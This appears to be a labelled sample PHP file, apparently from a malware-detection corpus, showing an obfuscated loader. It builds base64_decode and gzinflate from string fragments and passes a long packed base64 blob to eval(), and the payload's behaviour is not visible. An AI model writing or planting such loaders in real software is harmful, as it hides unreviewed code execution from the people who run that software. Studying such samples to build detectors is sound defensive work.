<?php
// Family: obfuscation/blob
// Style: packed payload opened by a decoder function the file defines itself
// Trait: eval(own_function("1000+ base64 characters")): no known decoder name next to the evaluator
function kq7z($s, $k = '') {
	$t = 'base' . '64_decode';
	$u = 'gz' . 'inflate';
	return $u($t($s));
}
eval(kq7z("7czHVhNhAIDRPU/xE3oQQhFUItKbClhA6RKmJIPJDJAgCuqzk5fgsLmr73ybm0SNIpTipFXMhU4jCXESFXFyE4q0u1k7pFkzCd1mnXYo7vKQ3uZRJyvyUrWnUg5XtTjO8nooV4Jzzjn3PBd6S339A4NDwyPl0Rdj45WJyanplzOzr16/mau+nX+3sLi0vLK6tr6xufX+w8ftnd1Pn7983dv/9v3g8Oj45PTsx3ntIoqTtN7ILn82W3lxdX3T7tz+uvv95/7h77//eDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8Ho/H4/F4PB6Px+PxeDwej8fj8Xg8/sn4Rw=="));
